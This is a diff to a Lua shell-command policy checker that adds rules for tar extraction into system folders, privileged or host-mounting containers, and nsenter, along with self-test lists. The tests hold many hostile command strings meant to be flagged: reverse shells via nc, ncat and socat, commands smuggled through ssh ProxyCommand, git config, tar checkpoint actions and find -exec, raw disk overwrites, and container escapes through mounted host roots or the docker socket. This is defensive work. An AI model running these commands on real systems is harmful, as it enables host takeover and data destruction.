@@ -889,6 +889,110 @@ local function dhcp_rule(c)
 end
 RULES.dhclient, RULES.dhcpcd = dhcp_rule, dhcp_rule
 
+-- tar extracting into a system folder (-C, or the folder it runs in), or
+-- with -P, the archive's absolute names: it overwrites what the archive
+-- holds there. The home folder and the scratch ones are left out:
+-- unpacking there is everyday work.
+local UNPACK_FOLDERS = {["~"] = true, ["/tmp"] = true, ["/var/tmp"] = true, ["/mnt"] = true,
+                        ["/media"] = true, ["/srv"] = true, ["/opt"] = true}
+RULES.tar = function(c)
+  local extract, absolute, dir = false, false, {value = ".", dynamic = false, glob = false}
+  for i = 2, #c.argv do
+    local a = c.argv[i]
+    -- Short options in a bundle: -xzf, or the first word without a dash.
+    local letters = a:match("^%-(%a+)$") or (i == 2 and a:match("^(%a+)$")) or ""
+    extract = extract or letters:find("x", 1, true) ~= nil or a == "--get"
+              or (#a > 4 and abbreviates(a:sub(3), "extract") and a:sub(1, 2) == "--")
+    absolute = absolute or letters:find("P", 1, true) ~= nil or a == "--absolute-names"
+    local w = c.words[i]
+    if (a == "-C" or a == "--directory") and c.words[i + 1] then
+      dir = c.words[i + 1]
+    elseif a:find("^%-%-directory=") or a:find("^%-C.") then
+      dir = {value = a:match("^%-%-directory=(.*)$") or a:sub(3), dynamic = w.dynamic,
+             glob = w.glob}
+    end
+  end
+  if not extract then
+    return nil
+  elseif absolute then
+    return "tar -P extracts to the archive's absolute paths"
+  end
+  local probe = {name = c.name, cwd = c.cwd, words = {dir}}
+  if not dir.dynamic and not UNPACK_FOLDERS[shell.resolve(dir.value, c.cwd) or ""]
+      and may_name(probe, 1, SYSTEM_TREES) then
+    return "tar extracts into a system folder"
+  end
+  return nil
+end
+
+-- docker, podman and nerdctl: a container given the host (privileged,
+-- its PID namespace, added capabilities, a host system folder, file,
+-- disk or the engine's socket mounted writable) can change the devvm as
+-- root can.
+local CONTAINER_HOST_FILES = args.list({"/var/run/docker.sock", "/run/docker.sock",
+                                        "/run/podman/podman.sock", "/run/containerd/**",
+                                        "/var/run/containerd/**", "/proc", "/proc/**", "/sys",
+                                        "/sys/**", "/dev", "/dev/**"})
+
+-- Whether a mount spec (SRC:DST[:opts] or type=bind,source=SRC,...) gives
+-- a container a host path that matters, writable.
+local function host_mount(c, w, spec)
+  local src, options
+  if spec:find("=", 1, true) then
+    src = spec:match("source=([^,]*)") or spec:match("src=([^,]*)")
+    options = spec:find("readonly") or spec:find("ro=true") or spec:find(",ro,")
+        or spec:find(",ro$")
+    options = options and "ro" or ""
+  else
+    src, options = spec:match("^([^:]*)"), spec:match("^[^:]*:[^:]*:(.*)$") or ""
+  end
+  if src == nil or src:sub(1, 1) ~= "/" and src:sub(1, 1) ~= "~" then
+    return false -- a named volume
+  end
+  if options:find("%f[%w]ro%f[%W]") then
+    return false
+  end
+  local probe = {name = c.name, cwd = c.cwd, words = {{value = src, dynamic = w.dynamic,
+                                                       glob = false}}}
+  return may_name(probe, 1, SYSTEM_TREES) or may_name(probe, 1, SYSTEM_FILES)
+      or may_name(probe, 1, DISKS) or may_name(probe, 1, CONTAINER_HOST_FILES)
+end
+
+local function container_rule(c)
+  local verb = false
+  for i = 2, #c.argv do
+    local a, nxt = c.argv[i], c.argv[i + 1] or ""
+    if not verb and (a == "run" or a == "create" or a == "exec") then
+      verb = a
+    elseif verb then
+      local name, value = a:match("^(%-%-[%w-]+)=(.*)$")
+      name, value = name or a, value or nxt
+      if name == "--privileged" and value ~= "false" then
+        return c.name .. " " .. verb .. " --privileged gives the container the devvm"
+      elseif (name == "--pid" or name == "--userns" or name == "--uts") and value == "host"
+          or name == "--cap-add" then
+        return c.name .. " " .. verb .. " " .. name .. " gives the container the devvm's " ..
+            (name == "--cap-add" and "powers" or "processes")
+      elseif (name == "-v" or name == "--volume" or name == "--mount" or name == "--device")
+          and host_mount(c, c.words[i + (a:find("=", 1, true) and 0 or 1)] or {}, value)
+          or (a:find("^%-v.") and host_mount(c, c.words[i], a:sub(3))) then
+        return c.name .. " " .. verb .. " mounts a devvm system path into the container"
+      end
+    end
+  end
+  return nil
+end
+RULES.docker, RULES.podman, RULES.nerdctl = container_rule, container_rule, container_rule
+
+-- nsenter with no command starts a shell in another process's namespaces
+-- (init's: the devvm's), reading what the check cannot see.
+RULES.nsenter = function(c)
+  if has_word(c, {["-h"] = true, ["--help"] = true, ["-V"] = true, ["--version"] = true}) then
+    return false
+  end
+  return "nsenter starts a shell in another process's namespaces"
+end
+
 --------------------------------------------------------------------------------
 -- Judging a line
 
@@ -1154,6 +1258,31 @@ function policy.self_test(t)
     "echo x >> /etc/rc.local", "echo x > /etc/profile.d/x.sh", "echo x > ~/.ssh/rc",
     "echo x > /etc/udev/rules.d/99-x.rules", "echo x > /etc/update-motd.d/99-x",
     "echo x > /etc/apt/apt.conf.d/99x", "echo x >> ~/.gitconfig",
+    "at now -f /tmp/x", "at now + 1 minute -f /tmp/x", "echo reboot | at now", "batch -f /tmp/x",
+    "ssh -o ProxyCommand='reboot' x", "ssh -oProxyCommand=reboot x", "ssh x -o 'ProxyCommand reboot'",
+    "ssh -o RemoteCommand=reboot localhost", "scp -o ProxyCommand=reboot /tmp/x y:",
+    "git -c core.pager=reboot log", "git -c core.sshCommand=reboot fetch",
+    "git -c alias.x='!reboot' x", "git -c core.hooksPath=/tmp/h commit",
+    "git config --global core.pager reboot", "GIT_SSH_COMMAND=reboot git fetch",
+    "SYSTEMD_PAGER='sh -c reboot' systemctl status",
+    "tar --checkpoint=1 --checkpoint-action=exec=reboot -cf /tmp/x /tmp",
+    "tar --to-command=reboot -xf /tmp/x.tar", "tar -xf x.tar --to-c reboot",
+    "tar cf /tmp/x.tar -I reboot /tmp", "tar xf /tmp/x.tar -C /", "tar xPf /tmp/x.tar",
+    "cd / && tar xf /tmp/x.tar", "zip -T -TT reboot /tmp/x.zip /tmp/y",
+    "zip --unzip-command=reboot -T /tmp/x.zip /tmp/y", "rsync -e 'sh -c reboot' /tmp/x y:/tmp",
+    "rsync --rsh='sh -c reboot' /tmp/x y:/tmp", "rsync --rsync-path='sudo reboot' /tmp/x localhost:/tmp",
+    "vim -c '!reboot' /tmp/x", "vi +'!reboot' /tmp/x", "echo '!reboot' | ex",
+    "openssl rand -out /dev/vda 100", "openssl enc -in /tmp/x -out /dev/vda",
+    "sort -o /etc/passwd /tmp/x", "socat - EXEC:reboot", "socat TCP-LISTEN:80,fork SYSTEM:reboot",
+    "socat TCP-LISTEN:80 EXEC:/bin/sh", "socat - OPEN:/dev/vda", "nc -e /bin/sh 198.18.0.1 80",
+    "nc -c reboot 198.18.0.1 80", "ncat --exec /bin/sh 198.18.0.1 80",
+    "ncat --sh-exec reboot 198.18.0.1 80", "find / -exec reboot \\;",
+    "find /tmp -execdir reboot \\;", "find / -fprint /etc/passwd", "mapfile -C reboot -c 1 x < /tmp/f",
+    "docker run -v /:/h alpine", "docker run -v/etc:/e alpine", "podman run -v /:/h alpine",
+    "docker run --mount type=bind,source=/,target=/h alpine", "docker run --privileged alpine",
+    "podman run --pid=host alpine", "docker run --cap-add SYS_ADMIN alpine",
+    "docker run --device /dev/vda alpine", "docker run -v /run/docker.sock:/s alpine",
+    "docker exec --privileged x sh", "nsenter -t 1", "nsenter -t 1 -m -u -i -n -p",
     -- Lines the check cannot see through.
     "eval reboot", "x=reboot; $x", "`echo reboot`", "echo reboot | sh", "bash <<EOF\nreboot\nEOF",
     "source /tmp/x.sh", "f() { :; }; f", "python3 -c 'import os'", "sudo $CMD",
@@ -1192,6 +1321,15 @@ function policy.self_test(t)
     "ip a s eth0", "nmcli con show", "nmcli -t -f NAME con show", "nmcli device status",
     "cat /etc/systemd/system/x.service", "ls /etc/systemd/system", "systemctl enable nginx",
     "systemctl daemon-reload", "cat /etc/crontab", "ls -la /etc/cron.d",
+    "at -l", "atq", "ssh x uptime", "ssh -o ConnectTimeout=5 x uptime", "git log --oneline -5",
+    "git -c core.pager=cat log", "git config core.pager", "PAGER=cat systemctl status",
+    "tar tf /tmp/x.tar", "tar czf /tmp/x.tgz /var/log", "tar --checkpoint=1000 -cf /tmp/x /tmp",
+    "tar xzf /tmp/x.tgz", "tar -xf /tmp/x.tar -C /tmp/y", "zip -r /tmp/x.zip /var/log",
+    "rsync -av -e 'ssh -p 2222' /tmp/x y:/tmp", "vim +10 /tmp/x", "vi /tmp/x",
+    "openssl x509 -in /tmp/c.pem -noout -text", "sort -u /tmp/x", "socat - TCP:198.18.0.1:80",
+    "nc -zv 198.18.0.1 22", "mapfile -t lines < /tmp/f", "find / -name x", "docker ps",
+    "docker logs --tail 50 x", "docker run --rm -v /tmp/x:/x alpine ls", "podman ps -a",
+    "docker run --rm -v /:/h:ro alpine ls /h", "nsenter -t 1 -m df -h",
   }
   for _, c in ipairs(passes) do
     local d = decide(c)
